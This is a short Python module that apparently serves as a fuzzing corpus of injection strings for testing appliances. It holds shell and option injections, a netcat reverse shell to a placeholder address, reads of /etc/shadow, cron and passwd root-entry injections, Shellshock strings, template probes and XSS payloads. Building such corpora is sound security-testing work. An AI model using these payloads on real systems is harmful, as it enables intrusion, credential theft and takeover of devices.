# SPDX-License-Identifier: GPL-3.0-or-later
"""Strings by which other appliances fell: shells, options, generated files, logs, pages."""

SHELL = [
    "; id", "| id", "|| id", "&& id", "& id", "`id`", "$(id)", "${IFS}id", "$((1))", "\nid\n", "\r\nid", "\x00id", "a;reboot", "a|nc 192.0.2.66 9 -e sh",
    "a`touch /tmp/owned`", "$(touch${IFS}/tmp/owned)", "';id;'", "\";id;\"", "\\\";id;\\\"", "'||'1", "a'$(id)'b", "(id)", "{id,}", "<(id)", ">(id)",
    "> /etc/passwd", "< /etc/shadow", ">> /etc/crontab", "2>&1", "* * * * * root id", "~root", "~/../../etc/passwd", "!!", "!id", "^a^b", "%n%n%n%n",
    "%s%s%s", "%x.%x", "A" * 300, "A" * 70000, "${PATH}", "$HOME", "$0", "$@", "$*", "$#", "$?", "$$", "$!", "eval id", "exec id", "source /tmp/x",
    "() { :;}; id", "() { ignored; }; /bin/id", "env x='() { :;}; id'", "\\`id\\`", "\\$(id)", "\t;\tid", "\x0bid", "\x0cid", "\x1b]0;id\x07",
    "a\u2028id", "a\u2029id", "\u202eid", "\ufeffid", "\ud7ff;id", "id #", "id//", "id /* */", "-- id", "'--'", "\\", "\\\\", "'", "\"", "`",
]
OPTIONS = [
    "-rf", "--help", "-oProxyCommand=id", "--checkpoint-action=exec=id", "-e/bin/sh", "-exec", "--post-file=/etc/shadow", "-T/etc/passwd", "@/etc/passwd",
    "--config=/tmp/x", "--opt=", "-", "--", "-c", "-c id", "+x", "-o", "--upload-file", "-K/etc/shadow", "file:///etc/passwd", "/etc/passwd", "../../etc/passwd",
    "....//....//etc/passwd", "..\\..\\x", "%2e%2e%2f", "\\\\192.0.2.66\\x",
]
LINES = [
    "a\n!id", "a\nup /bin/id", "a\nscript-security 2", "a\n* * * * * root id", "a\nserver:\n  x", "a\" ; }", "a\n[section]", "a # b", "a ; b", "a\\\nb", "{{7*7}}",
    "${7*7}", "<%= 7*7 %>", "#{7*7}", "*/1", "a,admin", "a:0:0:::/bin/sh", "a\nroot::0:0:::/bin/sh",
]
PAGES = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "javascript:alert(1)", "<iframe srcdoc='<script>alert(1)</script>'>",
    "</textarea><script>alert(1)</script>", "';alert(1);//", "<a href=\"jav\tascript:alert(1)\">x</a>", "{{constructor.constructor('alert(1)')()}}", "<style>*{x:y}</style>",
]
ALL = SHELL + OPTIONS + LINES + PAGES
assert len(ALL) >= 120 and len(set(ALL)) == len(ALL)
